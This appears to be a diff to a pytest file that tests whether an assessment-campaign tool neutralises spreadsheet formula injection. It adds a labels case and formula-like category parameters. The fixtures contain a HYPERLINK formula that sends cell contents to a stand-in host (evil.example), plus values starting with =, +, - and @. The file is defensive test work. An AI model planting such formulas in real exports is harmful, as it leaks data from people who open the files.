@@ -25,6 +25,7 @@ ASSESSORS = ["+alice", "@bob"]
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
 TOPICS = {
+    "labels": {"items": [{"id": "=i1", "text": EVIL}, {"id": "+i2", "text": "-2+3"}, {"id": "@i3", "text": "@x"}]},
     "pairs": {
         "query": EVIL,
         "candidates": [
@@ -56,6 +57,7 @@ TOPICS = {
     },
 }
 PAYLOADS = {
+    "labels": {"labels": {"=i1": "=bad", "+i2": "+good", "@i3": None}},
     "pairs": {"matches": {"=c1": True, "+c2": False, "@c3": True}},
     "ordering": {"order": ["+b", "=a", "-c"]},
     "clustering": {"clusters": [["=s1", "-s3"], ["+s2", "@s4"]], "descriptions": [EVIL, "+1"]},
@@ -66,6 +68,7 @@ PAYLOADS = {
     },
 }
 RUNS = {
+    "labels": [{"name": "=sys1", "data": {"reference": True, "labels": {"=t1": {"=i1": "@meh", "+i2": "=bad"}}}}],
     "pairs": [{"name": "=sys1", "data": {"results": {"=t1": [{"id": "=c1", "text": EVIL}]}}}],
     "ordering": [{"name": "=sys1", "data": {"orderings": {"=t1": ["=a", "+b", "-c"]}}}],
     "clustering": [{"name": "=sys1", "data": {"clusterings": {"=t1": [["=s1", "+s2"]]}}}],
@@ -73,6 +76,8 @@ RUNS = {
     "factoids": [],
 }
 
+# Campaign params the samples need (a labels scale whose categories look like formulas).
+PARAMS = {"labels": {"level": "nominal", "categories": ["=bad", "+good", "@meh"], "cant_tell": True}}
 
 TEXT_KEYS = {"text", "title", "query", "target", "description", "narrative", "descriptions"}
 
@@ -110,13 +115,19 @@ def formula_looking(kind: str) -> tuple[dict, dict, list]:
     return convert(examples.topic), convert(examples.payloads[0]), runs
 
 
+def params_of(kind: str) -> dict | None:
+    return PARAMS.get(kind)
+
+
 @pytest.fixture
 def evil_campaign(people, make_user):
     for name in ASSESSORS:
         make_user(name)
 
     def make(kind: str):
-        campaign = create_campaign(creator=people["organiser"], kind=kind, name=f"{kind} evil", overlap=2)
+        campaign = create_campaign(
+            creator=people["organiser"], kind=kind, name=f"{kind} evil", overlap=2, params=params_of(kind)
+        )
         for name in ASSESSORS:
             add_member(campaign=campaign, username=name, role="assessor")
         topic_data, payload, runs = formula_looking(kind)
@@ -144,7 +155,8 @@ def evil_campaign(people, make_user):
 def test_every_kind_is_covered():
     for kind in KINDS:
         topic, payload, _ = formula_looking(kind)
-        KINDS[kind].data.clean_payload(payload, KINDS[kind].data.clean_topic_data(topic), complete=True)
+        params = KINDS[kind].params.clean(params_of(kind) or {})
+        KINDS[kind].data.clean_payload(payload, KINDS[kind].data.clean_topic_data(topic), complete=True, params=params)
 
 
 @pytest.mark.parametrize("kind", sorted(KINDS))
